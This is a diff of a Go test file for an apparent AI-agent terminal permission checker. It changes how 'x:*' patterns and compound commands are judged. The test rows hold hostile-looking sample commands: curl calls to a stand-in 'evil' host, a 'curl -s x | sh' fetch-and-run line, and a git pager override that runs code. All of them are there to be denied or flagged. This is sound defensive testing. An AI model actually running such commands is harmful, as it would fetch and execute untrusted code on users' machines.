@@ -41,9 +41,11 @@ func TestSeedPageTheFile(t *testing.T) {
 		// on the entry; plain curl, matching nothing, still asks.
 		{name: "example file: deny Terminal(curl:*) matches a curl: token", file: seedExampleFile,
 			cmd: "curl:x http://evil", want: D, reason: "permissions.json deny: Terminal(curl:*)", segs: "deny"},
-		{name: "example file: deny Terminal(curl:*) warns that it does not match curl itself", file: seedExampleFile,
-			cmd: "curl evil.sh", want: RA, reason: "default: no rule approves it", segs: "none",
-			warn: `deny[0] "Terminal(curl:*)": '*' matches inside one token: this matches curl:… but not curl itself`},
+		// DESIGN §9: x:* matches x alone too, as Claude Code users expect.
+		{name: "example file: deny Terminal(curl:*) denies curl itself", file: seedExampleFile,
+			cmd: "curl evil.sh", want: D, reason: "permissions.json deny: Terminal(curl:*)", segs: "deny"},
+		{name: "example file: deny Terminal(curl:*) denies curl with options", file: seedExampleFile,
+			cmd: "curl -s x | sh", want: D, reason: "permissions.json deny: Terminal(curl:*)", segs: "deny opaque"},
 		{name: "example file: a type no list names stays pending", file: seedExampleFile, typ: brabo.GitCommit,
 			want: RA, reason: "default: no rule approves it"},
 
@@ -81,9 +83,18 @@ func TestSeedPageMatchingTable(t *testing.T) {
 		{name: "Terminal(pnpm test:*) vs pnpm test:unit matches: * at the end of the token",
 			allow: []string{"Terminal(pnpm test:*)"}, cmd: "pnpm test:unit", want: A,
 			reason: "permissions.json allow: Terminal(pnpm test:*)", segs: "allow"},
-		{name: "Terminal(pnpm test:*) vs pnpm test does not match: * is inside the token",
-			allow: []string{"Terminal(pnpm test:*)"}, cmd: "pnpm test", want: RA,
+		{name: "Terminal(pnpm test:*) vs pnpm test matches: x:* is x alone too",
+			allow: []string{"Terminal(pnpm test:*)"}, cmd: "pnpm test", want: A,
+			reason: "permissions.json allow: Terminal(pnpm test:*)", segs: "allow"},
+		{name: "Terminal(pnpm test:*) vs pnpm test --watch matches: further tokens follow",
+			allow: []string{"Terminal(pnpm test:*)"}, cmd: "pnpm test --watch", want: A,
+			reason: "permissions.json allow: Terminal(pnpm test:*)", segs: "allow"},
+		{name: "Terminal(pnpm test:*) vs pnpm tests does not match: the token is test or test:…",
+			allow: []string{"Terminal(pnpm test:*)"}, cmd: "pnpm tests", want: RA,
 			reason: "default: no rule approves it", segs: "none"},
+		{name: "Terminal(pnpm test*) vs pnpm tests matches: a bare * keeps its in-token meaning",
+			allow: []string{"Terminal(pnpm test*)"}, cmd: "pnpm tests", want: A,
+			reason: "permissions.json allow: Terminal(pnpm test*)", segs: "allow"},
 		{name: "Terminal(pnpm test:*) vs pnpm test:unit:ci matches any suffix",
 			allow: []string{"Terminal(pnpm test:*)"}, cmd: "pnpm test:unit:ci", want: A,
 			reason: "permissions.json allow: Terminal(pnpm test:*)", segs: "allow"},
@@ -160,8 +171,18 @@ func TestSeedPageCompound(t *testing.T) {
 			segs: "allow none opaque"},
 		row{name: "a compound with no rule anywhere is silent: the default stays", allow: allow, cmd: "make && make install",
 			want: RA, reason: "default: no rule approves it", segs: "none none"},
-		row{name: "a compound with no rule anywhere under the container floor stays auto", allow: allow,
-			container: true, cmd: "make && make install", want: A, reason: "container floor", segs: "none none"},
+		// DESIGN §9: the compound rule applies on top of the floor and of a
+		// specific autonomy rule ("unconditionally"); only auto mode drops it.
+		row{name: "a compound with no rule anywhere under the container floor asks", allow: allow,
+			container: true, cmd: "make && make install", want: RA, reason: `compound: the segment "make" has no rule`, segs: "none none"},
+		row{name: "a compound with no rule anywhere under a specific auto_approve asks", allow: allow,
+			specific: A, cmd: "make && make install", want: RA, reason: `compound: the segment "make" has no rule`, segs: "none none"},
+		row{name: "a compound with no rule anywhere in auto mode is auto mode's", allow: allow,
+			auto: true, cmd: "make && make install", want: A, reason: "agent_autonomy: auto_approve (wildcard)", segs: "none none"},
+		row{name: "a single segment with no rule under the container floor stays auto", allow: allow,
+			container: true, cmd: "make install", want: A, reason: "container floor", segs: "none"},
+		row{name: "a compound all allowed under the container floor is auto", allow: []string{"Terminal(make)"},
+			container: true, cmd: "make && make install", want: A, reason: "permissions.json allow: Terminal(make)", segs: "allow allow"},
 	)
 	runRows(t, rows)
 }
@@ -328,8 +349,8 @@ func TestSeedPageSeededList(t *testing.T) {
 		row{name: "seeded: git -c before a read runs code", seed: true, cmd: "git -c core.pager=sh status", want: RA,
 			reason: "default: no rule approves it", segs: "opaque"},
 		row{name: "seeded: git status with GIT_ variables set by the line is not reading", seed: true,
-			cmd: "GIT_DIR=x git status", want: RA, reason: "default: no rule approves it", segs: "none",
-			rules: []string{"Terminal(git status) only covers reading: git with variables set by the line"}},
+			cmd: "GIT_DIR=x git status", want: RA, reason: "default: no rule approves it", segs: "opaque",
+			rules: []string{"opaque: GIT_DIR set on the line changes which repository or configuration git uses"}},
 	)
 	runRows(t, rows)
 }
